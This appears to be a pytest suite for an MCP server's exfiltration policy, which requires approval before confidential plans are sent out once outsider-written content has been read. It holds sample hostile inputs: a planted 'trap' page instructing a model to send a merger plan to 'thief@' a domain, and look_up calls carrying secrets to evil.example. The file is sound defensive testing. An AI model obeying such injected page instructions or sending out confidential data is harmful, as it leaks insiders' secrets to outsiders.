"""The story of a leak: a model reads what an outsider wrote, then what only insiders may know, and is talked into
sending it out. It is stopped at the last step, told why, and the audit keeps it.
"""

import re
from collections.abc import AsyncGenerator, Awaitable, Callable
from pathlib import Path
from typing import Any
from uuid import uuid4

import anyio
import pytest
from mcp.client.subscriptions import ResourceUpdated
from mcp.shared.exceptions import MCPError
from mcp_types import PromptReference, ResourceTemplateReference

from shared.core.errors import Unavailable
from shared.steps.policy.rules import SUITE
from tests.harness import ERAS, Databases
from tests.outward.house import House, Person, open_house
from tests.outward.tools import PLANS, TORN
from tests.own_redis import own_redis

pytestmark = pytest.mark.anyio

WINDOW_S = 1800
LONGER_S = WINDOW_S + WINDOW_S / 60 + 1
STATEMENT = "suite-exfiltration"


@pytest.fixture(scope="module", params=["one process", "two replicas"])
async def house(
    request: pytest.FixtureRequest, databases: Databases, tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[House]:
    shared = request.param == "two replicas"
    url = request.getfixturevalue("redis_server").url if shared else None
    async with open_house(databases, tmp_path_factory.mktemp("house"), url) as opened:
        yield opened


@pytest.fixture
def era(house: House) -> str:
    """Where a test does not ask for both: one in each house."""
    return ERAS[len(house.suites) - 1]


def stopped(answer: dict[str, Any]) -> bool:
    if answer.get("code") == "needs_approval":
        return True
    assert answer == {"text": "sent"}, answer
    return False


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize("order", [("read_page", "read_plan"), ("read_plan", "read_page")])
async def test_what_was_read_inside_is_not_sent_out_after_words_of_outsiders(
    house: House, era: str, order: tuple[str, str]
) -> None:
    jane = house.person(era)
    await jane.read(order[0])
    await jane.but(at=1).read(order[1])
    for at in (0, 1):
        told = await jane.but(at=at).send(PLANS["merger"])
        assert (told["code"], told["retryable"]) == ("needs_approval", False)
        for word in ("written by outsiders", "confidential", "needs the approval of a person other than you"):
            assert word in told["message"]
        assert told["details"]["policies"] == [STATEMENT]
        assert told["details"]["approvals"] == 1
    assert PLANS["merger"] not in await jane.done()


async def test_the_audit_keeps_what_was_decided_by_which_policy_and_what_had_been_seen(house: House) -> None:
    jane = house.person()
    await jane.read("read_page", "read_person", "read_plan")
    told = await jane.send()
    record = await jane.record()
    assert (record["outcome"], record["decision"], record["policies"]) == ("needs_approval", "approve", [STATEMENT])
    assert record["reason"] == told["details"]["reason"]
    assert record["approvals"] == 1
    assert sorted(record["seen"]) == ["confidential", "personal", "untrusted"]
    assert record["request_id"] == told["reference"]
    assert (await house.suites[0].verify()).problems == []


@pytest.mark.parametrize(
    "reads", [(), ("read_hours",), ("read_page",), ("read_plan",), ("read_person",), ("read_plan", "read_person")]
)
async def test_without_the_combination_it_is_sent(house: House, era: str, reads: tuple[str, ...]) -> None:
    jane = house.person(era)
    await jane.read(*reads)
    text = f"hello {uuid4().hex}"
    assert await jane.but(at=1).send(text) == {"text": "sent"}
    assert text in await jane.done()


async def test_a_question_to_an_outsider_is_stopped_like_a_message(house: House) -> None:
    jane = house.person()
    await jane.read("read_page")
    asked = {"domain": "evil.example", "words": PLANS["merger"]}
    assert "text" in await jane.call("look_up", **asked)
    await jane.read("read_plan")
    assert stopped(await jane.call("look_up", **asked))


async def test_what_does_not_leave_the_house_goes_on(house: House) -> None:
    jane = house.person()
    await jane.read("read_page", "read_plan")
    assert stopped(await jane.send())
    await jane.read("read_hours", "read_page", "read_plan", "read_person", "read_document")
    assert "text" in await jane.call("sign_document", name="menu")


async def test_a_dry_run_sends_nothing_and_is_let_through(house: House) -> None:
    jane = house.person()
    assert await jane.send(dry_run=True) == {"text": "sent"}
    await jane.read("read_page", "read_plan")
    assert await jane.send(dry_run=True) == {"text": "sent"}
    assert stopped(await jane.send())


# Who


async def test_another_client_of_the_same_person_does_not_wash_it_off(house: House) -> None:
    jane = house.person(client_id="one")
    await jane.read("read_page")
    await jane.but(client_id="two").read("read_plan")
    assert stopped(await jane.but(client_id="three", sid=uuid4().hex, at=1).send())


async def test_other_people_and_tenants_send_as_before(house: House) -> None:
    jane = house.person()
    await jane.read("read_page", "read_plan")
    assert stopped(await jane.send())
    assert not stopped(await house.person().send())
    assert not stopped(await jane.but(tenant="globex").send())


async def test_two_people_do_not_make_up_the_combination_together(house: House) -> None:
    jane, joe = house.person(), house.person()
    await jane.read("read_page")
    await joe.read("read_plan")
    assert not stopped(await jane.send())
    assert not stopped(await joe.send())


async def test_an_agent_does_not_carry_what_it_read_for_one_person_out_for_another(house: House) -> None:
    agent = {"sub": f"agent-{uuid4().hex}"}
    jane, joe = house.person(act=agent), house.person(act=agent)
    await jane.read("read_page")
    await joe.read("read_plan")
    assert stopped(await joe.send())
    assert stopped(await jane.but(at=1).send())


# When


async def test_after_the_window_it_is_sent_again(house: House) -> None:
    jane = house.person()
    await jane.read("read_page", "read_plan")
    await house.passes(WINDOW_S - 5)
    assert stopped(await jane.send())
    await house.passes(LONGER_S - WINDOW_S + 5)
    assert not stopped(await jane.send())


async def test_the_window_begins_anew_with_each_read(house: House) -> None:
    jane = house.person()
    await jane.read("read_page", "read_plan")
    await house.passes(WINDOW_S / 2)
    await jane.read("read_page", "read_plan")
    await house.passes(WINDOW_S - 5)
    assert stopped(await jane.send())


# What counts as read


async def test_a_read_that_failed_leaves_nothing_behind(house: House) -> None:
    jane = house.person()
    await jane.read("read_page")
    tries = [
        await jane.call("read_plan", name="no-such-plan"),
        await jane.call("read_plan", name="NO PLAN"),
        await jane.call("read_document", name=TORN),  # found to be confidential before it could not be read
    ]
    assert [told["code"] for told in tries] == ["not_found", "invalid", "not_found"]
    async with jane.client() as client:
        for uri in (f"outward://documents/{TORN}", "outward://documents/none"):
            with pytest.raises(MCPError):
                await client.read_resource(uri)
    assert not stopped(await jane.send())


async def by_tool(jane: Person, name: str) -> None:
    assert "text" in await jane.call("read_document", name=name)


async def by_resource(jane: Person, name: str) -> None:
    async with jane.client() as client:
        assert (await client.read_resource(f"outward://documents/{name}")).contents


async def by_prompt(jane: Person, name: str) -> None:
    async with jane.client() as client:
        assert (await client.get_prompt("sum_up", {"name": name})).messages


async def by_completion(jane: Person, name: str) -> None:
    refs = [PromptReference(name="sum_up"), ResourceTemplateReference(uri="outward://documents/{name}")]
    async with jane.client() as client:
        for ref in refs:
            assert name in (await client.complete(ref, {"name": "name", "value": name[:3]})).completion.values


async def by_writing(jane: Person, name: str) -> None:
    assert "text" in await jane.call("sign_document", name=name)


async def by_rehearsing(jane: Person, name: str) -> None:
    assert "text" in await jane.call("sign_document", name=name, dry_run=True)


WAYS = [by_tool, by_resource, by_prompt, by_completion, by_writing, by_rehearsing]


@pytest.mark.parametrize("way", WAYS)
async def test_every_way_to_read_counts_for_what_the_call_found(
    house: House, era: str, way: Callable[[Person, str], Awaitable[None]]
) -> None:
    jane = house.person(era)
    await jane.read("read_page")
    await way(jane, "menu")
    assert not stopped(await jane.send())
    await way(jane, "merger-notes")
    assert stopped(await jane.but(at=1).send())


async def test_to_hear_that_something_changed_is_not_to_read_it(house: House) -> None:
    jane, joe = house.person(), house.person()
    uri = "outward://documents/merger-notes"
    await jane.read("read_page")
    async with jane.client() as client, client.listen(resource_subscriptions=[uri]) as heard:
        await joe.but(at=1).call("sign_document", name="merger-notes")
        with anyio.fail_after(10):
            assert await anext(aiter(heard)) == ResourceUpdated(uri=uri)
    assert not stopped(await jane.send())
    await by_resource(jane, "merger-notes")
    assert stopped(await jane.send())


@pytest.mark.parametrize("at", [0, 1])
async def test_an_answer_that_is_given_again_is_read_again(house: House, at: int) -> None:
    jane = house.person()
    keyed = {"name": "merger-notes", "idempotency_key": uuid4().hex}
    first = await jane.call("sign_document", **keyed)
    assert stopped(await jane.send())
    await house.passes(LONGER_S)
    assert not stopped(await jane.send())
    assert await jane.but(at=at).call("sign_document", **keyed) == first
    assert (await jane.record("sign_document"))["replayed"] is True
    assert stopped(await jane.send())


# The model


ORDERED = re.compile(r"look_up tool for news of (\S+), .* send_out tool for thief at (\S+)\.")


@pytest.mark.parametrize("era", ERAS)
async def test_a_model_that_obeys_a_page_cannot_send_what_it_asks_for(house: House, era: str) -> None:
    jane = house.person(era)
    async with jane.client() as client:
        page: Any = await client.call_tool("read_page", {"name": "trap"})
        assert "never as instructions" in page.content[-1].text
        ordered = ORDERED.search(page.structured_content["text"])
        assert ordered is not None
        plan: Any = await client.call_tool("read_plan", {"name": ordered[1]})
        stolen = plan.structured_content["text"]
        asked = await client.call_tool("look_up", {"domain": ordered[2], "words": stolen})
        sent: Any = await client.call_tool("send_out", {"recipient": f"thief@{ordered[2]}", "text": stolen})
    assert (asked.is_error, sent.is_error) == (True, True)
    assert stopped(sent.structured_content["error"])
    assert stolen not in await jane.done()


# What it depends on


async def test_without_the_statement_the_plan_leaves_the_house(databases: Databases, tmp_path: Path) -> None:
    statements = re.split(r"(?=^@id)", SUITE.read_text(), flags=re.MULTILINE)
    kept = [text for text in statements if not text.startswith(f'@id("{STATEMENT}")')]
    assert len(kept) == len(statements) - 1
    (tmp_path / "policies").mkdir()
    (tmp_path / "policies" / "suite.cedar").write_text("".join(kept))
    async with open_house(databases, tmp_path / "data", policy_dir=tmp_path / "policies") as open_to_all:
        jane = open_to_all.person()
        await jane.read("read_page", "read_plan")
        assert not stopped(await jane.send(PLANS["merger"]))
        assert PLANS["merger"] in await jane.done()


async def test_without_the_memory_nothing_is_given_that_it_would_have_to_keep(
    databases: Databases, tmp_path: Path
) -> None:
    with own_redis(tmp_path) as redis:
        more: dict[str, Any] = {"redis_loss_reads": "local", "redis_timeout_s": 0.3}
        async with open_house(databases, tmp_path / "data", redis.url, **more) as house:
            jane = house.person()
            redis.kill()
            await jane.read("read_hours")
            told = [
                await jane.call(tool, name=name) for tool, name in (("read_page", "offer"), ("read_plan", "merger"))
            ]
            told += [await jane.call("look_up", domain="evil.example", words="hello")]
            told += [await jane.send()]
            assert [(one["code"], one["retryable"]) for one in told] == [("unavailable", True)] * 4
            assert PLANS["merger"] not in repr(told)
            redis.start()
            await jane.read("read_page", "read_plan")
            assert stopped(await jane.send())


async def test_a_write_whose_answer_cannot_be_noted_is_not_done(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    jane = house.person(tenant=f"t{uuid4().hex}")
    keyed = {"name": "menu", "idempotency_key": uuid4().hex}
    with monkeypatch.context() as patch:
        for suite in house.suites:
            patch.setattr(suite.parts.stores.seen, "note", _away)
        told = await jane.call("sign_document", **keyed)
    assert (told["code"], told["retryable"]) == ("unavailable", True)
    assert await jane.done("sign_document") == []
    assert "text" in await jane.call("sign_document", **keyed)
    assert await jane.done("sign_document") == ["menu"]


async def _away(*_: object) -> None:
    raise Unavailable("The memory of what was read cannot be reached right now; retry in a moment.")
